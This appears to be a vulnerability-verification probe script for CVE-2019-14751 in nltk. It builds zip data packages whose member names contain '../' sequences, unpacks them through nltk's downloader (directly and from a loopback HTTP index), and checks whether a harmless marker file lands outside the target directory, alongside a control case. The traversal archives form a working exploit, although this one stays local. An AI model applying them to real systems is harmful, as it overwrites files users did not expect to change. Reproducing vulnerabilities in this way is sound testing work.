# /// vertice-probe
# id = "PYSEC-2019-106"
# aliases = ["CVE-2019-14751", "GHSA-mr7p-25v2-35wr"]
# package = "nltk"
# summary = "Unpacking a data package follows ../ in member names, so a package writes outside the data directory."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:H/A:N" }]
# cwe = ["CWE-22"]
# kind = "traversal"
# symbols = ["nltk.download", "nltk.downloader.download", "nltk.downloader.Downloader", "nltk.downloader.unzip"]
#
# [[affected]]
# package = "nltk"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "3.4.5" }] }]
#
# [cases]
# attack = "unzip of an archive with a ../ member writes a marker beside the target directory"
# [cases.variants]
# download = "Downloader.download from a loopback index writes the marker through a nested ../../ member"
# [cases.controls]
# corpus = "an ordinary data package from a loopback index is downloaded and unpacked"
#
# [test]
# vulnerable = "3.4.4"
# fixed = "3.4.5"
# ///
"""CVE-2019-14751: members of a data package are unpacked outside the target directory."""

import hashlib
import http.server
import importlib
import importlib.util
import io
import json
import os
import sys
import tempfile
import threading
import zipfile

BASE = tempfile.mkdtemp()
TARGET = os.path.join(BASE, "data")
OUTSIDE = os.path.join(BASE, "marker.txt")


def load_downloader():
    """nltk.downloader without the rest of nltk, which newer interpreters cannot import in releases of 2019."""
    spec = importlib.util.find_spec("nltk")
    if spec is None:
        raise ImportError("No module named 'nltk'")
    sys.modules["nltk"] = importlib.util.module_from_spec(spec)
    sys.modules["tkinter"] = None  # no window: the drawing modules need the whole of nltk
    importlib.import_module("nltk.internals")
    importlib.import_module("nltk.data")
    return importlib.import_module("nltk.downloader")


def archive(members):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as package:
        for name, text in members:
            package.writestr(name, text)
    return data.getvalue()


def look(inside):
    if os.path.exists(OUTSIDE):
        return "exploited", "the archive wrote a marker outside the target directory"
    if not os.path.exists(inside):
        return "error", "the ordinary member was not unpacked either"
    return "blocked", "the ordinary member was unpacked, nothing was written outside"


def attack():
    downloader = load_downloader()
    os.mkdir(TARGET)
    package = os.path.join(BASE, "pkg.zip")
    with open(package, "wb") as out:
        out.write(archive([("pkg/words.txt", "one"), ("../marker.txt", "two")]))
    downloader.unzip(package, TARGET, verbose=False)
    return look(os.path.join(TARGET, "pkg", "words.txt"))


def fetch(members):
    """Serve one data package on loopback and let the downloader install it."""
    downloader = load_downloader()
    data = archive(members)

    class Index(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = data if self.path.endswith("pkg.zip") else index
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Index)
    url = "http://127.0.0.1:%d" % server.server_address[1]
    index = (
        '<nltk_data><packages><package id="pkg" name="p" subdir="corpora" unzip="1" size="%d" unzipped_size="1"'
        ' checksum="%s" url="%s/pkg.zip"/></packages><collections/></nltk_data>'
        % (len(data), hashlib.md5(data).hexdigest(), url)
    ).encode()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    os.mkdir(TARGET)
    return downloader.Downloader(url + "/index.xml", TARGET).download("pkg", quiet=True)


def download():
    if not fetch([("pkg/words.txt", "one"), ("pkg/../../../marker.txt", "two")]) and not os.path.exists(OUTSIDE):
        return "error", "the download did not finish"
    return look(os.path.join(TARGET, "corpora", "pkg", "words.txt"))


def corpus():
    done = fetch([("pkg/", ""), ("pkg/words.txt", "one"), ("pkg/sub/more.txt", "two")])
    with open(os.path.join(TARGET, "corpora", "pkg", "sub", "more.txt")) as text:
        good = done and text.read() == "two"
    return ("works", "downloaded and unpacked") if good else ("broken", "download returned %r" % done)


CASES = {"attack": attack, "download": download, "corpus": corpus}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
